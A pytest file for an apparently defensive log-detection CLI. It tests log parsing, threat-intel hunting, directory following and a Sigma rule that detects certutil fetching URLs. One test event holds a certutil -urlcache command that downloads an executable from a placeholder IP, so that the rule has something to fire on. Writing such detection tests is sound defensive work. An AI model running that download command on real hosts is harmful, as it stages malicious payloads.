"""``detect run|hunt|serve|formats`` and ``rules test`` through the real entry point."""

from __future__ import annotations

import gzip
import uuid
from datetime import UTC, datetime
from pathlib import Path

import orjson
from cli_helpers import Run, ok, ok_json

from watchkeeper.demo.telemetry import campaign, write_samples

RULE = """\
title: Certutil fetches a URL
id: 0b7e6a52-8d0c-4d3c-9e1e-5f3b2a1c0d11
logsource:
  category: process_creation
  product: windows
detection:
  selection:
    Image|endswith: '\\certutil.exe'
    CommandLine|contains|all: ['-urlcache', 'http']
  condition: selection
level: high
"""


def _campaign(tmp_path: Path) -> Path:
    bundle = tmp_path / "campaign.json"
    objects = campaign(datetime.now(UTC))
    bundle.write_bytes(
        orjson.dumps({"type": "bundle", "id": f"bundle--{uuid.uuid4()}", "objects": objects})
    )
    ok("intel", "import", str(bundle))
    return bundle


def test_detect_run_summarises_and_hunt_finds_late_indicators(
    data_dir: Path, tmp_path: Path
) -> None:
    logs = write_samples(tmp_path / "logs", now=datetime.now(UTC))
    gz = tmp_path / "logs" / "dns.log.gz"
    gz.write_bytes(gzip.compress(logs[0].read_bytes()))
    logs[0].unlink()
    report = ok_json("detect", "run", str(tmp_path / "logs" / "*"), "--no-rules")
    assert report["events"] > 800 and report["malformed_lines"] == 0
    assert "domain" not in report["matches"]  # no intelligence yet
    assert report["formats"] == {"zeek": 2, "sysmon": 1}

    _campaign(tmp_path)
    hunted = ok_json("detect", "hunt", "--since", "2d")
    assert hunted["matches"]["domain"] == 3 and hunted["alerts"]["new"] >= 2
    text = ok("detect", "run", str(tmp_path / "logs"), "--no-retain").output
    assert "matches: " in text and "domain 3" in text and "alerts: " in text
    assert "rule Sigma: PowerShell started with an encoded command: 1" in text


def test_detect_run_reports_malformed_lines_and_unknown_formats(
    data_dir: Path, tmp_path: Path, run: Run
) -> None:
    broken = tmp_path / "events.jsonl"
    broken.write_text('{"EventID": 1, "Image": "C:\\\\a.exe"}\nnot json\n{"EventID": 1}\n')
    report = ok_json("detect", "run", str(broken), "--format", "sysmon")
    assert report["events"] == 2 and report["malformed_lines"] == 1
    assert report["malformed"][0].startswith(f"{broken}:2:")
    unknown = run("detect", "run", str(broken), "--format", "evtx")
    assert unknown.code == 2 and "zeek" in unknown.err and "sysmon" in unknown.err
    odd = tmp_path / "notes.txt"
    odd.write_text("nothing a reader knows\n")
    undetected = run("detect", "run", str(odd))
    assert undetected.code == 2 and "notes.txt" in undetected.err
    assert "supported: zeek" in undetected.err
    missing = run("detect", "run", str(tmp_path / "absent.log"))
    assert missing.code == 2 and "absent.log" in missing.err


def test_rules_test_names_the_lines_and_the_bad_rules(
    data_dir: Path, tmp_path: Path, run: Run
) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "certutil.yml").write_text(RULE)
    (rules / "broken.yml").write_text("title: broken\ndetection: [unclosed\n")
    log = tmp_path / "sysmon.jsonl"
    events = [
        {"EventID": 1, "Image": "C:\\Windows\\explorer.exe", "CommandLine": "explorer.exe"},
        {"EventID": 1, "Image": "C:\\Windows\\System32\\certutil.exe",
         "CommandLine": "certutil -urlcache -f http://203.0.113.9/a.exe a.exe"},
    ]  # fmt: skip
    log.write_bytes(b"".join(orjson.dumps(event) + b"\n" for event in events))
    outcome = run("rules", "test", str(rules), "--logs", str(log), "--json")
    assert outcome.code == 1  # an invalid rule
    document = orjson.loads(outcome.out)
    fired = [rule for rule in document["rules"] if rule["status"] == "fired"]
    assert [rule["lines"] for rule in fired] == [[f"{log}:2"]]
    assert "broken.yml" in document["errors"][0]["error"]
    assert "broken.yml:3:1: not valid YAML" in document["errors"][0]["error"]


def test_detect_serve_once_follows_a_directory(data_dir: Path, tmp_path: Path) -> None:
    _campaign(tmp_path)
    watched = tmp_path / "watched"
    write_samples(watched, now=datetime.now(UTC))
    first = ok_json("detect", "serve", str(watched), "--once", "--no-hunt")
    assert first["events"] > 800 and first["matches"]["domain"] == 3
    again = ok_json("detect", "serve", str(watched), "--once", "--no-hunt")
    assert again["events"] == 0  # cursors kept: nothing read twice


def test_detect_formats_lists_the_readers(data_dir: Path) -> None:
    names = [row["format"] for row in ok_json("detect", "formats")]
    assert names == ["zeek", "suricata", "sysmon", "squid", "clf", "jsonl", "csv"]
